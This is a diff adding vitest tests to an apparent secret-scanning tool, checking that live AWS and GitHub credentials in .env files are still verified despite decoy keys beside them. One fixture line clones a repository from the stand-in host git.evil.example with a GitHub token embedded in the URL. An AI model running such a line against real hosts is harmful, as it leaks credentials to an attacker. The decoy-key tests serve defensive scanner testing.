@@ -4,6 +4,7 @@ import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync } from 'node
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { fixtures, serveEveryone } from '../../fixtures/everything.ts';
+import { accessKeyId } from '../../fixtures/aws/keys.ts';
 import { type Hostile, hostile, inside } from '../../fixtures/hostile/index.ts';
 import { mint } from '../mint.ts';
 import { overreach, type Ran, type RunOptions } from '../run.ts';
@@ -212,6 +213,47 @@ describe('a policy file in the tree', () => {
       findings: expect.arrayContaining([expect.objectContaining({ rule: 'committed' })]),
       suppressed: [],
     });
+  });
+});
+
+describe('what stands beside a secret in another file does not keep its provider from being asked', () => {
+  const { id = '', secret = '' } = fixtures.get('aws')!.tokens;
+  const { classic = '' } = fixtures.get('github')!.tokens;
+  const pair = (of: string) => `AWS_ACCESS_KEY_ID=${of}\nAWS_SECRET_ACCESS_KEY=${secret}\n`;
+  const bogus = (count: number) => Array.from({ length: count }, (_, index) => accessKeyId(`bogus ${index}`, '604212345671'));
+
+  test.each<[string, Record<string, string>]>([
+    ['an id that looks like a canary', { '.a.env': pair(accessKeyId('bait', '171436882533')), '.env': pair(id) }],
+    ['an id that does not exist', { '.a.env': pair(bogus(1)[0]!), '.env': pair(id) }],
+    ['an id that wants a session', { '.a.env': pair(accessKeyId('session', '604212345671', 'ASIA')), '.env': pair(id) }],
+    ['some ids that do not exist', { ...Object.fromEntries(bogus(5).map((one) => [`.a/${one}.env`, pair(one)])), '.env': pair(id) }],
+    [
+      'the URL of another host',
+      { '.a.sh': `git clone https://oauth2:${classic}@git.evil.example/shop.git\n`, '.env': `GITHUB_TOKEN=${classic}\n` },
+    ],
+  ])('%s', async (_, texts) => {
+    using repository = tree(texts);
+    await using everyone = await serveEveryone();
+    const ran = await overreach(['scan', '--online', '--format', 'json', ...everyone.endpoints], { cwd: repository.root });
+    expect(reportOf(ran).credentials).toMatchObject([{ state: 'live' }]);
+    expect(ran.code).toBe(1);
+  });
+
+  test('more ids than are tried, which is said, and which leaves the scan incomplete', async () => {
+    using repository = tree({ ...Object.fromEntries(bogus(30).map((one) => [`.a/${one}.env`, pair(one)])), '.env': pair(id) });
+    await using everyone = await serveEveryone();
+    const ran = await overreach(['scan', '--online', '--format', 'json', ...everyone.endpoints], { cwd: repository.root });
+    expect(reportOf(ran)).toMatchObject({
+      credentials: [
+        {
+          state: 'unknown',
+          unknowns: expect.arrayContaining([expect.stringMatching(/stands beside 31 ids or hosts, and was tried with 8/)]),
+        },
+      ],
+      findings: [{ rule: 'unjudged' }],
+    });
+    expect(ran.code).toBe(3);
+    expect(everyone.asked.length).toBeLessThan(10);
   });
 });
 
